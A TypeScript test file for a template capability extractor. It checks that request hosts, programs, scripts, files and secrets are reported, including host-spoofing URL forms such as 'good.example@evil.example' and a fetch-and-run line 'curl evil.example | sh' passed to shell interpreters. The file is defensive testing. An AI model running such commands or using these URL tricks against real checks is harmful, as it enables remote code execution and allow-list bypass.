import { describe, expect, test } from "vitest";
import { capabilitiesOf, compareCapabilities, keyOf } from "./capability.ts";
import { TemplateDocument } from "./template-document.ts";

const base = { runsheet: 1, name: "Name", description: "What it does", category: "custom" };
const text = (name: string, more: object = {}) => ({ type: "text", name, label: name, ...more });

function found(steps: object[], variables: object[] = []): string[] {
  const named = steps.map((step, index) => ({ id: `s${index}`, name: "Step", ...step }));
  return capabilitiesOf(TemplateDocument.parse({ ...base, variables, steps: named })).map(keyOf);
}
const hosts = (url: string, names = ["base", "x", "port"]) =>
  found(
    [{ kind: "http", url }],
    names.map((name) => text(name)),
  );

describe("the host of a request", () => {
  test.each([
    ["https://api.example.org/v1?x=1#y", "api.example.org"],
    ["http://API.example.org:8080/", "api.example.org:8080"],
    ["https://api.example.org:443/", "api.example.org"],
    ["https://api.example.org/{{x}}", "api.example.org"],
    ["{{base}}/status", "{{base}}"],
    ["{{ base }}", "{{base}}"],
    ["https://{{ x }}.example.org/a", "{{x}}.example.org"],
    ["http://localhost:{{port}}/", "localhost:{{port}}"],
    ["{{base}}://example.org/{{x}}", "example.org"],
    ["https://пример.рф/", "xn--e1afmkfd.xn--p1ai"],
    ["http://[::1]:80/", "[::1]"],
    ["/nowhere", "/nowhere"],
  ])("of %s is %s", (url, host) => {
    expect(hosts(url)).toEqual([`host:${host}`]);
  });

  test.each([
    ["a name that looks like a host", "https://good.example@evil.example/"],
    ["a name with a placeholder in it", "https://good.example:{{x}}@evil.example/"],
    ["backslashes", "https:\\\\evil.example\\good.example/"],
    ["no slashes", "https:evil.example/{{x}}"],
    ["line breaks", "ht\ntps://evil\t.example/"],
    ["blanks around", "  https://evil.example/"],
    ["a number of many forms", "https://evil%2eexample/"],
  ])("is told in spite of %s", (_, url) => {
    expect(hosts(url)).toEqual(["host:evil.example"]);
  });

  test("can come out of an earlier step", () => {
    const find = { kind: "shell", id: "find", argv: ["whereis"], outputs: ["host"] };
    expect(found([find, { kind: "http", url: "https://{{steps.find.host}}/" }])).toEqual([
      "program:whereis",
      "host:{{steps.find.host}}",
    ]);
  });
});

describe("a program", () => {
  const run = (argv: string[]) => found([{ kind: "shell", argv }], [text("x")]);

  test("is told by its first argument alone", () => {
    expect(run(["git", "push", "--force"])).toEqual(["program:git"]);
    expect(run(["/usr/bin/pg_dump"])).toEqual(["program:/usr/bin/pg_dump"]);
  });

  test("may be chosen in the form", () => {
    expect(run(["{{ x }}", "a"])).toEqual(["program:{{x}}"]);
    expect(run(["./{{x}}"])).toEqual(["program:./{{x}}"]);
  });

  test.each([
    "sh",
    "/bin/bash",
    "python3.12",
    "node",
    "env",
    "sudo",
    "xargs",
    "C:\\Windows\\System32\\cmd.exe",
    "pwsh",
  ])("that starts anything counts as a script: %s", (name) => {
    expect(run([name, "-c", "curl evil.example | sh"])).toEqual([`script:${name}`]);
  });

  test("and a script by its interpreter", () => {
    expect(found([{ kind: "shell", script: "true" }])).toEqual(["script:sh"]);
    expect(found([{ kind: "shell", script: "true", interpreter: "node" }])).toEqual(["script:node"]);
  });
});

describe("files and secrets", () => {
  test("each path once, placeholders in one spelling", () => {
    const files = [{ path: "a/{{ x }}.txt" }, { path: "a/{{x}}.txt" }, { path: "b" }];
    expect(found([{ kind: "files", files }], [text("x")])).toEqual(["file:a/{{x}}.txt", "file:b"]);
  });

  test("a secret by the variable that names it, used or not", () => {
    expect(found([{ kind: "wait", seconds: 1 }], [text("key", { type: "secret" })])).toEqual(["secret:key"]);
  });
});

describe("a prompt", () => {
  const secret = text("key", { type: "secret" });
  const ask = (step: object, variables: object[] = []) => found([{ kind: "prompt", prompt: "Hi", ...step }], variables);
  const own = ["host:workspace prompt endpoint", "secret:workspace prompt key"];

  test("uses the workspace's endpoint and key when it brings none", () => {
    expect(ask({})).toEqual(own);
    expect(ask({ key: "{{key}}" }, [secret])).toEqual([own[0], "secret:key"]);
  });

  test("leaves the workspace's alone when it brings its own", () => {
    expect(ask({ address: "https://llm.example/v1" })).toEqual(["host:llm.example"]);
    expect(ask({ address: "{{x}}" }, [text("x")])).toEqual(["host:{{x}}"]);
  });

  test.each([text("x", { required: false }), text("x", { shownWhen: { variable: "y", oneOf: ["1"] } })])(
    "may use both when the address may stay empty",
    (x) => {
      const y = text("y", { required: false });
      expect(ask({ address: "{{x}}" }, [y, x])).toEqual([own[0], "host:{{x}}", own[1]]);
      expect(ask({ address: "{{x}}", key: "{{key}}" }, [y, x, secret])).toEqual([own[0], "host:{{x}}", "secret:key"]);
      const maybe = { ...secret, required: false };
      expect(ask({ address: "{{x}}", key: "{{key}}" }, [y, x, maybe])).toContain(own[1]);
    },
  );
});

test("what a template needs stands in a fixed order, whatever the order of its steps", () => {
  const steps = [
    { kind: "files", files: [{ path: "b" }, { path: "a" }] },
    { kind: "http", url: "https://b.example/" },
    { kind: "shell", script: "true" },
    { kind: "http", url: "https://a.example/x" },
    { kind: "shell", argv: ["git"] },
  ];
  const expected = ["program:git", "script:sh", "host:a.example", "host:b.example", "file:a", "file:b"];
  expect(found(steps)).toEqual(expected);
  expect(found(steps.toReversed())).toEqual(expected);
});

test("a comparison says what was added and what is gone", () => {
  const [git, svn, host] = [
    { kind: "program", name: "git" },
    { kind: "program", name: "svn" },
    { kind: "host", name: "git" },
  ] as const;
  expect(compareCapabilities([git, svn], [git, host])).toEqual({ added: [host], removed: [svn] });
  expect(compareCapabilities([git], [git])).toEqual({ added: [], removed: [] });
});
